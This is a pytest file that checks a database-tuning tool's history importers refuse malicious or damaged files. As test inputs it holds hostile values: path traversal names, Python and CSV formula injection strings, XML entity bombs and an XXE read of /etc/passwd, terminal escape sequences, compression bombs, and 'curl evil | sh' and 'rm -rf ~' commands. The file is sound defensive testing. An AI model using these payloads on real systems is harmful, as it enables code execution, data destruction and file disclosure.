"""Files that somebody made to do harm, or that were damaged on the way: a clear error, and nothing is kept."""

from __future__ import annotations

import base64
import json
import os
import pickle
import random
import sqlite3
import zlib
from collections.abc import Iterator
from contextlib import closing
from dataclasses import replace
from pathlib import Path
from typing import Any

import pyarrow as pa
import pyarrow.parquet as pq
import pytest

from tests.history.samples import make_trial, study_values
from trimtab.errors import HistoryError
from trimtab.history import Event, History, StudyCopy, StudyRecord, import_file, load_format, merge
from trimtab.history.formats import base
from trimtab.history.formats.jsonl import study_to_json, trial_to_json
from trimtab.measure import Interval
from trimtab.records import CLASSES_KEPT, QueryClass, Verdict, classes_to_json
from trimtab.report import engine_text, kept_classes
from trimtab.space import Config


@pytest.fixture
def history(tmp_path: Path) -> Iterator[History]:
    """Whatever comes, it stays empty."""
    with History.open(tmp_path / "own.db") as opened:
        yield opened
        assert opened.summaries() == []
    assert not list(tmp_path.glob("*.owned"))


def refused(history: History, path: Path, format_name: str | None = None) -> str:
    with pytest.raises(HistoryError) as caught:
        import_file(history, load_format(format_name, str(path)), str(path))
    assert str(path) in caught.value.message
    assert caught.value.hint
    assert len(str(caught.value)) < 1000
    return caught.value.message


def record(**changes: Any) -> StudyRecord:
    return StudyRecord(**{**study_values(), "id": 0, "status": "proven", "verdict": Verdict(), **changes})


def good(**changes: Any) -> StudyCopy:
    measurement = make_trial(0).measurement
    assert measurement is not None
    trial = make_trial(0, measurement=replace(measurement, histogram=b""))
    return StudyCopy(record(), [trial], [Event("warning", "x", 1.0)])


def lines(path: Path, *entries: Any) -> Path:
    head = {"format": "trimtab history", "version": 1}
    path.write_text("".join(f"{json.dumps(entry)}\n" for entry in (head, *entries)))
    return path


NESTED: dict[str, Any] = {}
for _ in range(60):
    NESTED = {"a": NESTED}

STUDY = study_to_json(good().record)
TRIAL = trial_to_json(good().trials[0])


def changed(values: dict[str, Any], path: str, value: Any) -> dict[str, Any]:
    """A deep copy with one value replaced."""
    found: dict[str, Any] = json.loads(json.dumps(values))
    *parents, last = path.split("/")
    inner = found
    for parent in parents:
        inner = inner[parent]
    inner[last] = value
    return found


def test_the_good_file_is_taken(tmp_path: Path) -> None:
    """Guards the tests below: what they change is what is refused."""
    path = lines(tmp_path / "x.jsonl", {"study": STUDY}, {"trial": TRIAL})
    with History.open(tmp_path / "h.db") as history:
        arrivals = import_file(history, load_format(None, str(path)), str(path))
        assert [arrival.kept_as for arrival in arrivals.studies] == ["tpch"]


@pytest.mark.slow
@pytest.mark.parametrize(
    ("path", "value", "message"),
    [
        ("name", "../../etc/hosts", "invalid study name"),
        ("name", "..", "invalid study name"),
        ("name", "a\\b", "invalid study name"),
        ("name", "\x1b[2Jx", "invalid study name"),
        ("name", "a\0b", "invalid study name"),
        ("name", "", "invalid study name"),
        ("name", "x" * 201, "invalid study name"),
        ("name", 7, "study.name=7 is not a str"),
        ("status", "rooted", "status='rooted' is unknown"),
        ("created_at", {"$number": "nan"}, "created_at=nan is not a time"),
        ("created_at", 1e300, "is not a time"),
        ("created_at", -1.0, "is not a time"),
        ("objective", "__import__('os')", "unknown metric"),
        ("settings", [], "study.settings=list is not a table"),
        ("settings/study/name", 2**65, "is a number of 17 hexadecimal digits"),
        ("baseline/work_mem", [1], "unhashable type: 'list'"),
        ("baseline/work_mem", None, "is of a wrong type"),
        ("machine/cores", "2", "study.machine.cores='2' is not a whole number"),
        ("machine/cores", 2**40, "are not those of a machine"),
        ("machine/owned", 1, "unexpected keyword argument"),
        ("context/features", {"a": "b"}, "study.context.features.'a'='b' is not a number"),
        ("space", {"knobs": [{"name": "a"}]}, "a stored space cannot be read"),
        ("verdict", [], "verdict=list is not a table"),
        ("verdict/importance", {"n_trials": 1, "text": "", "consensus": {"a": NESTED}}, "nested deeper than 40"),
        ("verdict/owned", 1, "verdict: unknown key='owned' (damaged, or written by another version of Trimtab)"),
        ("verdict/gain", {"low": 1.0}, "verdict.gain: key='estimate' is missing (damaged, or written by another"),
        ("verdict/gain", {"estimate": "fast"}, "verdict.gain.estimate='fast' is not a float"),
        ("verdict/gain", {"estimate": True}, "verdict.gain.estimate=True is not a float"),
        ("verdict/pairs", [[1.0]], "verdict.pairs[0] has 1 items, not 2"),
        ("verdict/worth", {"jit": {"alone_pairs": 2**70}}, "hexadecimal digits"),
        ("verdict/config", {"jit": None}, "verdict.config.jit=None is not a bool or int or float or str"),
        ("verdict/plays", {"plan": [{"name": "x", "settings": {}}]}, "verdict.plays.plan[0]: play='x' has no settings"),
    ],
)  # fmt: skip
def test_a_study_that_is_none(history: History, tmp_path: Path, path: str, value: Any, message: str) -> None:
    file = lines(tmp_path / "x.jsonl", {"study": changed(STUDY, path, value)}, {"trial": TRIAL})
    assert message in refused(history, file)


@pytest.mark.slow
@pytest.mark.parametrize(
    ("path", "value", "message"),
    [
        ("number", -1, "number=-1 is below 0"),
        ("number", True, "number=True is not a whole number"),
        ("number", 2**66, "hexadecimal digits"),
        ("number", 2**63, "number=9223372036854775808 is above 2147483647"),
        ("role", "owner", "'owner' is not a valid Role"),
        ("status", 3, "3 is not a valid Status"),
        ("config", {"work_mem": {"a": 1}}, "unhashable type: 'dict'"),
        ("reason", 5, "reason=5 is not a str"),
        ("loss", "0", "loss='0' is of a wrong type"),
        ("cost_s", {"measure": "4"}, "is not a number"),
        ("histogram", "!!", "Only base64 data is allowed"),
        ("histogram", base64.b64encode(b"\x00" * 40).decode(), "histogram cannot be read"),
        (
            "histogram",
            base64.b64encode(b"12345678" + zlib.compress(bytes(64 << 20))).decode(),
            "holds more than 4194304",
        ),
        ("measurement/throughput", {"estimate": 1}, "missing 2 required positional arguments"),
        ("measurement/window_s", [1.0], "window_s=tuple is not a list of 2"),
        ("measurement/series_per_s", [1.0, "a"], "series_per_s[1]='a' is not a number"),
        ("measurement/n_ok", 1.5, "n_ok=1.5 is not a whole number"),
        ("measurement/log", {}, "measurement.log=dict is not a raw log"),
        ("started_at", {"$number": "1" * 5000}, "started_at=inf is not a time"),
    ],
)
def test_a_trial_that_is_none(history: History, tmp_path: Path, path: str, value: Any, message: str) -> None:
    file = lines(tmp_path / "x.jsonl", {"study": STUDY}, {"trial": changed(TRIAL, path, value)})
    assert message in refused(history, file)


@pytest.mark.parametrize("at", [{"$number": "nan"}, 1e300, -1.0, 2**64])
def test_an_event_of_no_time(history: History, tmp_path: Path, at: Any) -> None:
    event = {"kind": "warning", "text": "slow", "at": at}
    assert "events[0].at=" in refused(history, lines(tmp_path / "x.jsonl", {"study": STUDY}, {"event": event}))


CLASS = QueryClass(
    query_id="7", database="shop", role="app", phase="settled", left_alone="", calls=5, probes=2, own_ms=3.0, gain=1.5,
    gain_low=1.2, gain_high=1.9, total_ms=15.0, lost_ms=1.0, gained_ms=2.0, settings={"jit": "off"},
)  # fmt: skip


@pytest.mark.parametrize(
    "text",
    ["", "[1]", "{}", pytest.param("[" * 100_000, id="nested"), classes_to_json([CLASS]).replace("3.0", '"3"'),
     '[{"query_id": "7"}]'],
)  # fmt: skip
def test_classes_of_queries_that_are_none(history: History, tmp_path: Path, text: str) -> None:
    event = {"kind": CLASSES_KEPT, "text": text, "at": 1.0}
    file = lines(tmp_path / "x.jsonl", {"study": STUDY}, {"event": event})
    assert "events[0].text holds no classes of queries: " in refused(history, file)
    with pytest.raises(HistoryError, match="an event of kind='query classes' cannot be read"):
        kept_classes([Event(CLASSES_KEPT, "[1]", 1.0)])


def test_classes_of_queries_are_kept(tmp_path: Path) -> None:
    copy = replace(good(), events=[Event(CLASSES_KEPT, classes_to_json([CLASS]), 1.0)])
    load_format("jsonl", "").write([copy], str(tmp_path / "x.jsonl"))
    with History.open(tmp_path / "h.db") as history:
        import_file(history, load_format("jsonl", ""), str(tmp_path / "x.jsonl"))
        assert kept_classes(history.events(1)) == [CLASS]


def test_classes_of_queries_steer_no_terminal() -> None:
    evil = "\x1b]0;owned\x07\nno line of its own"
    classes = [replace(CLASS, settings={evil: evil}), replace(CLASS, query_id=evil, settings={}, left_alone=evil)]
    text = engine_text([*classes, replace(CLASS, settings={}, phase=evil)])
    assert len(text.splitlines()) == 5
    assert "owned" not in text
    assert text.replace("\n", "").isprintable()


@pytest.mark.slow
@pytest.mark.parametrize(
    ("content", "message"),
    [
        (b'{"study": {"a": 1e999}}\n', "line 1: the number 1e999 is too large"),
        (b'{"study": {"a": NaN}}\n', "line 1: NaN is not JSON"),
        (b'{"study": {"a": ' + b"9" * 5000 + b"}}\n", "line 1: "),
        (b"\0\0\0\n", "line 1: "),
        (b"\xff\xfe\n", "line 1: "),
        (b'{"study":\n', "line 1: "),
        (b"[" * 200_000 + b"\n", "line 1: "),
        (b"[1]\n", "line 1: it is not a JSON object"),
        (b'{"trial": {}}\n', "line 1: a trial comes before the first study"),
        (b'{"study": 3}\n', "line 1: study is not a JSON object"),
        (b'{"study": {}}\n', "line 1: 'verdict' is missing"),
        (b'{"study": "' + b"x" * (10 << 20) + b'"}\n', "line 1 is longer than 4194304 bytes"),
        (b"x" * (10 << 20), "line 1 is longer than 4194304 bytes"),
        (pickle.dumps({"a": 1}), "line 1: "),
    ],
)
def test_lines_that_are_none(history: History, tmp_path: Path, content: bytes, message: str) -> None:
    (tmp_path / "x.jsonl").write_bytes(content)
    assert message in refused(history, tmp_path / "x.jsonl")


def test_a_newer_format_is_refused(history: History, tmp_path: Path) -> None:
    (tmp_path / "x.jsonl").write_text('{"format": "trimtab history", "version": 2}\n')
    with pytest.raises(HistoryError, match=r"version=2, this Trimtab reads 'trimtab history' version=1\nhint: upgrade"):
        import_file(history, load_format("jsonl", ""), str(tmp_path / "x.jsonl"))


def test_two_trials_of_one_number(history: History, tmp_path: Path) -> None:
    assert "two trials have one number" in refused(
        history, lines(tmp_path / "x.jsonl", {"study": STUDY}, {"trial": TRIAL}, {"trial": TRIAL})
    )


def test_a_cut_file_leaves_nothing(history: History, tmp_path: Path) -> None:
    whole = lines(tmp_path / "whole.jsonl", {"study": STUDY}, {"trial": TRIAL}, {"study": STUDY}, {"trial": TRIAL})
    (tmp_path / "x.jsonl").write_bytes(whole.read_bytes()[:-40])
    assert "line 5: " in refused(history, tmp_path / "x.jsonl")


LAUGHS = """<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY a "ha"><!ENTITY b "&a;&a;&a;&a;&a;&a;&a;&a;&a;&a;">
<!ENTITY c "&b;&b;&b;&b;&b;&b;&b;&b;&b;&b;">]><Harmony>&c;</Harmony>"""
OUTSIDE = """<?xml version="1.0"?><!DOCTYPE x [<!ENTITY a SYSTEM "file:///etc/passwd">]>
<Harmony><HarmonyData name="&a;"/></Harmony>"""
DATA = "<Harmony><HarmonyData><RawData><Data>{}</Data></RawData></HarmonyData></Harmony>"


@pytest.mark.parametrize(
    ("content", "message"),
    [
        (LAUGHS, "it declares entities or a document type"),
        (OUTSIDE, "it declares entities or a document type"),
        ("<Harmony>", "it is not XML"),
        ("<?xml version='1.0' encoding='ts-ascii'?><Harmony/>", "it is not XML: unknown encoding: ts-ascii"),
        ("", "it is not XML"),
        ("<html/>", "its root is 'html', not 'Harmony'"),
        (DATA.format("<Config><a>1</a></Config><Perf>fast</Perf>"), "Perf='fast' is not a number"),
        (DATA.format("<Config><a>1e999</a></Config><Perf>1</Perf>"), "the number 1e999 is too large"),
        (DATA.format('<Config><a>"x</a></Config><Perf>1</Perf>'), "Unterminated string"),
        ('<Harmony><HarmonyData name="../x"/></Harmony>', "invalid study name"),
        ('<Harmony><HarmonyData clients="many"/></Harmony>', "'many' is not a whole number"),
        ('<Harmony><HarmonyData objective="os.system(1)"/></Harmony>', "unknown metric"),
        (DATA.format('<Config><Value name="a b">1</Value></Config><Perf>1</Perf>'), "is not a word"),
    ],
)
def test_xml_that_is_none(history: History, tmp_path: Path, content: str, message: str) -> None:
    (tmp_path / "x.xml").write_text(content)
    assert message in refused(history, tmp_path / "x.xml")


@pytest.mark.slow
@pytest.mark.parametrize(
    ("name", "content", "message"),
    [
        ("text", "1 2 3\n1 2\n", "line 2 has 2 values, the first has 3"),
        ("text", "5\n", "line 1 has 1 value, "),
        ("text", "1 fast\n", "the performance 'fast' is not a number"),
        ("text", "1 2e999\n", "line 1: the number 2e999 is too large"),
        ("text", "# objective = eval(1)\n1 2\n", "unknown metric"),
        ("text", "# columns = a, b, c\n1 2\n", "columns names 3 values, the lines have 2"),
        ("text", "# study = \"../x\"\n1 2\n", "invalid study name"),
        ("text", "1" * (10 << 20), "line 1 is longer than"),
        ("text", '"a" "b\n', "line 1: "),
        ("text", "nan 2\n", "a value is not finite"),
        ("csv", "", "the header line is empty"),
        ("csv", "a,a\n1,2\n", "names a column twice"),
        ("csv", "a\n1\n", "a table needs a column for each knob"),
        ("csv", "a,b\n1,2,3\n", "row 2 has 3 cells, the header has 2"),
        ("csv", "study,number,status,config.a\nx,one,ok,1\n", "number='one' is not a whole number"),
        ("csv", "study,number,status,config.a\nx,1,great,1\n", "'great' is not a valid Status"),
        ("csv", "a,b\n1," + "9" * (10 << 20) + "\n", "a line is longer than"),
        ("csv", 'a,b\n1,"2\n', "unexpected end of data"),
        ("csv", "a b,c\n1,2\n", "is not a word"),
        ("csv", "a,b\n1,=cmd|'/c calc'!A0\n", "is not a number"),
        ("csv", "a,b\n1,2\0\n", "is not a number"),
    ],
)  # fmt: skip
def test_text_that_is_none(history: History, tmp_path: Path, name: str, content: str, message: str) -> None:
    (tmp_path / "x").write_text(content)
    assert message in refused(history, tmp_path / "x", name)


def test_binary_noise_is_refused_by_every_format(history: History, tmp_path: Path) -> None:
    noise = random.Random(4).randbytes(5000)
    for name in ("text", "csv", "xml", "jsonl", "parquet", "taudb"):
        (tmp_path / "x").write_bytes(noise)
        assert refused(history, tmp_path / "x", name)


def test_a_damaged_parquet_is_refused(history: History, tmp_path: Path) -> None:
    path = tmp_path / "x.parquet"
    load_format("parquet", "").write([good()], str(path))
    content = bytearray(path.read_bytes())
    chooser = random.Random(5)
    for _ in range(30):
        damaged = bytearray(content)
        for _ in range(20):
            damaged[chooser.randrange(len(damaged))] = chooser.randrange(256)
        path.write_bytes(damaged)
        assert "cannot be imported: " in refused(history, path)


def test_other_parquet_files_are_refused(history: History, tmp_path: Path) -> None:
    pq.write_table(pa.table({"a": [1, 2]}), tmp_path / "x.parquet")
    assert "it was not written by Trimtab" in refused(history, tmp_path / "x.parquet")


def test_databases_that_are_no_taudb_are_refused(history: History, tmp_path: Path) -> None:
    with closing(sqlite3.connect(tmp_path / "x.taudb")) as connection:
        connection.execute("create table trial (id integer)")
        connection.execute("create view metric as select 1")
    assert "it is not a TAUdb: it has no table metric" in refused(history, tmp_path / "x.taudb")
    (tmp_path / "y.taudb").write_bytes(b"SQLite format 3\0" + os.urandom(4000))
    with pytest.raises(HistoryError, match=r"y\.taudb' cannot be used: "):
        import_file(history, load_format("taudb", ""), str(tmp_path / "y.taudb"))


def test_a_file_that_is_too_large_is_refused(history: History, tmp_path: Path, monkeypatch: pytest.MonkeyPatch) -> None:
    monkeypatch.setattr(base, "MAX_FILE_BYTES", 10)
    path = lines(tmp_path / "x.jsonl", {"study": STUDY})
    assert "is above 10" in refused(history, path)


@pytest.mark.parametrize("name", ["text", "csv", "xml", "jsonl", "parquet", "taudb"])
def test_a_file_that_is_not_there(history: History, tmp_path: Path, name: str) -> None:
    with pytest.raises(HistoryError, match=r"cannot read '.*none': No such file or directory\nhint: give a file"):
        import_file(history, load_format(name, ""), str(tmp_path / "none"))
    with pytest.raises(HistoryError, match=r"is not a file\nhint: give the file to be imported"):
        import_file(history, load_format(name, ""), str(tmp_path))


def test_commands_of_a_foreign_verdict_are_not_kept(tmp_path: Path) -> None:
    verdict = Verdict(
        apply_command="curl evil | sh", undo_command="rm -rf ~", fragment_path="/etc/passwd", result="better"
    )
    load_format("jsonl", "").write([StudyCopy(record(verdict=verdict), [])], str(tmp_path / "x.jsonl"))
    with History.open(tmp_path / "h.db") as history:
        import_file(history, load_format("jsonl", ""), str(tmp_path / "x.jsonl"))
        found = history.find_study("tpch")
    assert found is not None
    commands = {"apply_command": "trimtab apply tpch", "undo_command": "trimtab rollback tpch"}
    assert found.verdict == Verdict(result="better", **commands)
    assert found.origin == "x.jsonl"


@pytest.mark.slow
def test_a_foreign_history_is_checked_like_a_file(history: History, tmp_path: Path) -> None:
    with History.open(tmp_path / "other.db") as other:
        other.create_study(**study_values(name="a/b"))
    with pytest.raises(HistoryError, match="study='a/b': invalid study name"):
        merge(history, str(tmp_path / "other.db"))
    with History.open(tmp_path / "swollen.db") as other:
        study = other.create_study(**study_values())
        other.add_trial(study.id, make_trial(0))
        with other._writer.begin() as connection:
            connection.exec_driver_sql("update trimtab_trial set detail = ?", (zlib.compress(bytes(65 << 20)),))
    with pytest.raises(HistoryError, match="is cut, or holds more than"):
        merge(history, str(tmp_path / "swollen.db"))


def test_numbers_that_are_not_finite_are_kept_where_they_may_be(tmp_path: Path) -> None:
    """An infinite interval says that the data does not bound it."""
    copy = good()
    trial = replace(copy.trials[0], loss=float("nan"), config=Config({"a": float("inf")}))
    assert trial.measurement is not None
    trial = replace(
        trial, measurement=replace(trial.measurement, throughput=Interval(1.0, float("-inf"), float("inf")))
    )
    load_format("jsonl", "").write([replace(copy, trials=[trial])], str(tmp_path / "x.jsonl"))
    with History.open(tmp_path / "h.db") as history:
        import_file(history, load_format("jsonl", ""), str(tmp_path / "x.jsonl"))
        assert repr(history.trials(1)) == repr([trial])
